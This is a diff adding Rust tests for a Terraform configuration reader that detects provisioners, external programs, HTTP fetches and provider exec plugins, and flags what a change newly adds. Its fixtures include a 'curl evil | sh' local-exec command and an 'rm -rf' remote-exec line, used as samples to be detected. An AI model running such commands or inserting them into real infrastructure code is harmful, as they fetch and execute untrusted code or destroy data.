@@ -1,0 +1,157 @@
+//! What is read out of configurations.
+
+use std::collections::{BTreeMap, BTreeSet};
+
+use countersign_terraform::configuration::{
+    Facts, ProgramKind, Reader, Refusal, Source, StatePlace, added, local_modules, refusal,
+};
+
+struct Files {
+    names: BTreeSet<String>,
+    contents: BTreeMap<String, Vec<u8>>,
+}
+
+impl Files {
+    fn of(files: &[(&str, &str)]) -> Self {
+        let contents: BTreeMap<String, Vec<u8>> =
+            files.iter().map(|(path, content)| ((*path).to_owned(), content.as_bytes().to_vec())).collect();
+        Self { names: contents.keys().cloned().collect(), contents }
+    }
+
+    fn facts(&self, dir: &str) -> Facts {
+        Reader::of(self).facts(dir)
+    }
+}
+
+impl Source for Files {
+    fn files(&self) -> &BTreeSet<String> {
+        &self.names
+    }
+
+    fn read(&self, paths: &[String]) -> Vec<Option<Vec<u8>>> {
+        paths.iter().map(|path| self.contents.get(path).cloned()).collect()
+    }
+}
+
+const MAIN: &str = r#"
+terraform {
+  required_version = "~> 1.11"
+  required_providers {
+    aws = {
+      source  = "hashicorp/aws"
+      version = "~> 6.0"
+    }
+    random = "3.6.0"
+  }
+  backend "s3" { bucket = "acme-state" }
+}
+provider "kubernetes" {
+  exec {
+    command = "aws"
+  }
+}
+module "vpc" { source = "../../modules/vpc" }
+module "dns" {
+  source  = "acme-cloud/dns/aws"
+  version = "2.4.1"
+}
+data "external" "owner" {
+  program = ["bash", "${path.module}/scripts/zone-owner.sh"]
+}
+data "http" "ip" { url = "https://example.com/ip" }
+check "reachable" {
+  data "http" "health" { url = "https://example.com/health" }
+  assert {
+    condition     = data.http.health.status_code == 200
+    error_message = "down"
+  }
+}
+resource "terraform_data" "hook" {
+  provisioner "local-exec" {
+    command = "echo harmless"
+  }
+}
+"#;
+
+fn repository() -> Files {
+    Files::of(&[
+        ("prod/network/main.tf", MAIN),
+        ("prod/network/prod.tfvars", "x = 1"),
+        ("modules/vpc/main.tf", "module \"inner\" { source = \"./subnets\" }\nterraform {\n  backend \"local\" {}\n}"),
+        (
+            "modules/vpc/subnets/x.tf.json",
+            r#"{"resource": {"null_resource": {"a": {"provisioner": [{"remote-exec": {"inline": ["rm -rf /tmp/x"]}}]}}}}"#,
+        ),
+        ("staging/main.tf", "terraform {\n  cloud {\n    organization = \"acme\"\n  }\n}"),
+    ])
+}
+
+#[test]
+fn everything_that_runs_is_found_also_in_local_modules() {
+    let facts = repository().facts("prod/network");
+    assert_eq!(facts.state, StatePlace::Backend("s3".to_owned()), "the backend of a module says nothing");
+    let programs: Vec<(ProgramKind, &str, &str)> =
+        facts.programs.iter().map(|it| (it.kind, it.address.as_str(), it.what.as_str())).collect();
+    assert_eq!(
+        programs,
+        [
+            (ProgramKind::External, "data.external.owner", "bash ${path.module}/scripts/zone-owner.sh"),
+            (ProgramKind::Http, "data.http.health", "https://example.com/health"),
+            (ProgramKind::Http, "data.http.ip", "https://example.com/ip"),
+            (ProgramKind::Provisioner, "null_resource.a", "remote-exec: rm -rf /tmp/x"),
+            (ProgramKind::Provisioner, "terraform_data.hook", "local-exec: echo harmless"),
+            (ProgramKind::ExecPlugin, "provider.kubernetes", "aws"),
+        ]
+    );
+    let modules: Vec<&str> = facts.modules.iter().map(|it| it.source.as_str()).collect();
+    assert_eq!(modules, ["acme-cloud/dns/aws"]);
+    let providers: Vec<&str> = facts.providers.iter().map(|it| it.source.as_str()).collect();
+    assert_eq!(providers, ["hashicorp/aws", "random"]);
+    assert_eq!(local_modules(&facts, "prod/network"), ["prod/network", "modules/vpc", "modules/vpc/subnets"]);
+    assert!(facts.unreadable.is_empty(), "{:?}", facts.unreadable);
+}
+
+#[test]
+fn what_a_change_adds_is_told_apart() {
+    let before = repository().facts("prod/network");
+    let mut files = repository();
+    let evil = MAIN.replace("echo harmless", "curl evil | sh");
+    files.contents.insert("prod/network/main.tf".to_owned(), evil.into_bytes());
+    let new = added(&before, &files.facts("prod/network"));
+    let programs: Vec<&str> = new.programs.iter().map(|it| it.what.as_str()).collect();
+    assert_eq!(programs, ["local-exec: curl evil | sh"]);
+    assert!(new.modules.is_empty() && new.providers.is_empty());
+}
+
+#[test]
+fn a_file_that_cannot_be_read_is_named_and_not_passed_over() {
+    let files = Files::of(&[("a/main.tf", "resource \"x\" {"), ("a/b.tf", "module \"m\" { source = \"../../../x\" }")]);
+    let facts = files.facts("a");
+    let named: Vec<&str> = facts.unreadable.iter().map(|it| it.path.as_str()).collect();
+    assert_eq!(named, ["a/b.tf", "a/main.tf"]);
+}
+
+#[test]
+fn candidates_have_a_backend_or_configure_a_provider() {
+    assert_eq!(Reader::of(&repository()).candidates(), ["modules/vpc", "prod/network", "staging"]);
+}
+
+#[test]
+fn what_this_app_does_not_run_is_refused_by_name() {
+    let refused = |files: &[(&str, &str)], dir: &str| {
+        let files = Files::of(files);
+        refusal(&files.names, dir, &files.facts(dir))
+    };
+    let backend = "terraform {\n  backend \"s3\" {}\n}";
+    assert_eq!(refused(&[("a/main.tf", backend)], "a"), None);
+    assert_eq!(refused(&[("a/main.tf", backend), ("a/terragrunt.hcl", "")], "a"), Some(Refusal::Terragrunt));
+    assert_eq!(refused(&[("main.tf", backend), ("terragrunt.hcl", "")], "."), Some(Refusal::Terragrunt));
+    assert_eq!(refused(&[("a/main.tf", backend), ("a/cdktf.json", "{}")], "a"), Some(Refusal::Cdktf));
+    assert_eq!(refused(&[("a/x.tfcomponent.hcl", "")], "a"), Some(Refusal::Stacks));
+    assert_eq!(refused(&[("staging/main.tf", "terraform {\n  cloud {}\n}")], "staging"), Some(Refusal::Cloud));
+    assert_eq!(refused(&[("a/main.tf", "terraform {\n  backend \"remote\" {}\n}")], "a"), Some(Refusal::Cloud));
+    assert_eq!(refused(&[("a/main.tf", "terraform {\n  backend \"local\" {}\n}")], "a"), Some(Refusal::LocalState));
+    assert_eq!(refused(&[("a/main.tf", "")], "a"), Some(Refusal::NoBackend));
+    assert_eq!(refused(&[("a/README.md", "")], "a"), Some(Refusal::Empty));
+    assert_eq!(refused(&[("b/main.tf", backend)], "a"), Some(Refusal::Empty));
+}
